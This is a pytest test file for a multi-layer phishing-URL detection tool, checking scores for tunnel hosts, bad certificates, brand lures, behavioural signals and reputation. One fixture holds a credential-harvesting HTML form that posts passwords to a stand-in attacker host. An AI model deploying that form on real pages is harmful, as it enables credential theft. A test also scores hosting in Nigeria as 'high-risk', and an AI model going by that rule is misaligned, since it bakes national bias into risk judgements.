import pytest

import layers
import rules
from models import (
    AnalysisInput,
    BehavioralSignals,
    CertificateInfo,
    LayerStatus,
    ReputationInfo,
    WhoisInfo,
)
from url_features import extract_features


def _evaluate(name, url, **context):
    analysis_input = AnalysisInput(url=url, **context)
    return layers.EVALUATORS[name](extract_features(analysis_input), analysis_input)


def test_clean_url_passes_every_layer_with_single_finding():
    for name in rules.LAYER_ORDER:
        result = _evaluate(name, "https://www.google.com")
        assert result.status is LayerStatus.PASS
        assert result.score == 0
        assert len(result.findings) == 1
        assert result.weight == rules.LAYER_WEIGHTS[name]


def test_tunnel_host_fails_infrastructure():
    result = _evaluate(rules.INFRASTRUCTURE, "https://abc123.ngrok.io")

    assert result.status is LayerStatus.FAIL
    assert result.score >= 45
    assert result.findings[0] == "CRITICAL: Tunnel service detected (ngrok.io)"


def test_ip_host_scores_once_not_as_shortener_or_subdomains():
    result = _evaluate(rules.INFRASTRUCTURE, "http://192.168.1.1/login")

    assert result.status is LayerStatus.FAIL
    assert result.score == rules.INFRASTRUCTURE_POINTS["ip_host"]
    assert result.findings == ("URL uses an IP address instead of a domain name",)


def test_suspicious_tld_alone_warns():
    result = _evaluate(rules.INFRASTRUCTURE, "https://free-stuff.tk")
    assert result.score == 25
    assert result.status is LayerStatus.WARN


def test_long_url_points():
    long_url = "https://example.com/" + "a" * 120
    very_long_url = "https://example.com/" + "a" * 200
    assert _evaluate(rules.INFRASTRUCTURE, long_url).score == rules.INFRASTRUCTURE_POINTS["long_url"]
    assert _evaluate(rules.INFRASTRUCTURE, very_long_url).score == rules.INFRASTRUCTURE_POINTS["very_long_url"]


def test_transport_without_https_warns():
    result = _evaluate(rules.TRANSPORT, "http://example.com")
    assert result.score == 25
    assert result.status is LayerStatus.WARN
    assert result.findings == ("No HTTPS encryption",)


def test_transport_with_bad_certificate():
    cert = CertificateInfo(is_valid=False, issuer="Unknown", trust_score=0, is_self_signed=True)

    https_result = _evaluate(rules.TRANSPORT, "https://example.com", certificate_info=cert)
    assert https_result.score == 30
    assert https_result.status is LayerStatus.WARN
    assert https_result.findings[0].startswith("Self-signed SSL certificate")

    http_result = _evaluate(rules.TRANSPORT, "http://example.com", certificate_info=cert)
    assert http_result.score == 55
    assert http_result.status is LayerStatus.FAIL


def test_transport_with_valid_certificate_is_clean():
    cert = CertificateInfo(is_valid=True, issuer="DigiCert", trust_score=90)
    result = _evaluate(rules.TRANSPORT, "https://example.com", certificate_info=cert)
    assert result.status is LayerStatus.PASS
    assert result.findings == ("Valid HTTPS certificate issued by DigiCert",)


def test_content_layer_without_html():
    result = _evaluate(rules.CONTENT, "https://example.com")
    assert result.status is LayerStatus.PASS
    assert result.findings == ("Page HTML not supplied; content not inspected",)


def test_content_layer_scores_credential_harvesting_page():
    html = (
        '<form action="https://collector.evil.net/p"><input type="password">'
        + '<input type="hidden">' * 4
        + "</form><script>eval(x)</script>"
    )
    result = _evaluate(rules.CONTENT, "https://example.com", html_content=html)

    assert result.score == 25 + 30 + 20 + 10
    assert result.status is LayerStatus.FAIL
    assert len(result.findings) == 4


def test_brand_layer_scores_impersonation_and_lures():
    result = _evaluate(rules.BRAND, "https://paypal-secure-verify.tk/account")
    assert result.score == 60
    assert result.status is LayerStatus.FAIL
    assert "paypal" in result.findings[0]


def test_behavioral_layer_consumes_simulator_signals():
    keylogger = _evaluate(rules.BEHAVIORAL, "https://example.com", behavioral_signals=BehavioralSignals(keylogger=True))
    assert keylogger.score == 40
    assert keylogger.status is LayerStatus.FAIL

    redirect = _evaluate(rules.BEHAVIORAL, "https://example.com/?url=http://elsewhere.test")
    assert redirect.score == 15
    assert redirect.status is LayerStatus.WARN


def test_layer_scores_are_clamped():
    everything = BehavioralSignals(
        dynamic_redirect=True,
        keylogger=True,
        dom_manipulation=True,
        screen_capture=True,
        malicious_requests=True,
        crypto_mining=True,
        browser_exploit=True,
    )
    result = _evaluate(rules.BEHAVIORAL, "https://example.com/redirect", behavioral_signals=everything)
    assert result.score == 100
    assert len(result.findings) == 8


@pytest.mark.parametrize("age, expected", [(5, 30), (45, 20), (400, 0)])
def test_reputation_domain_age(age, expected):
    whois = WhoisInfo(domain="example.com", domain_age_days=age)
    assert _evaluate(rules.REPUTATION, "https://example.com", whois_info=whois).score == expected


def test_reputation_blacklist_reports_and_country():
    reputation = ReputationInfo(blacklist_hits=2, reported_times=12, sources=("feed-a", "feed-b"))
    result = _evaluate(
        rules.REPUTATION,
        "https://example.com",
        reputation=reputation,
        hosting_country="Nigeria",
    )

    assert result.score == 50 + 15 + 20
    assert result.status is LayerStatus.FAIL
    assert result.findings[0] == "Listed on 2 blacklist(s) (feed-a, feed-b)"
    assert result.findings[-1] == "Hosted in high-risk country: Nigeria"


def test_unknown_whois_placeholder_scores_nothing():
    result = _evaluate(rules.REPUTATION, "https://example.com", whois_info=WhoisInfo.unknown("example.com"))
    assert result.score == 0


def test_evaluators_work_without_context():
    features = extract_features("https://example.com")
    for name, evaluator in layers.EVALUATORS.items():
        assert evaluator(features).name == name


def test_fault_layer_is_neutral():
    result = layers.fault_layer(rules.CONTENT)
    assert result.score == 0
    assert result.status is LayerStatus.PASS
    assert result.findings == ("Layer evaluation failed; scored as clean",)
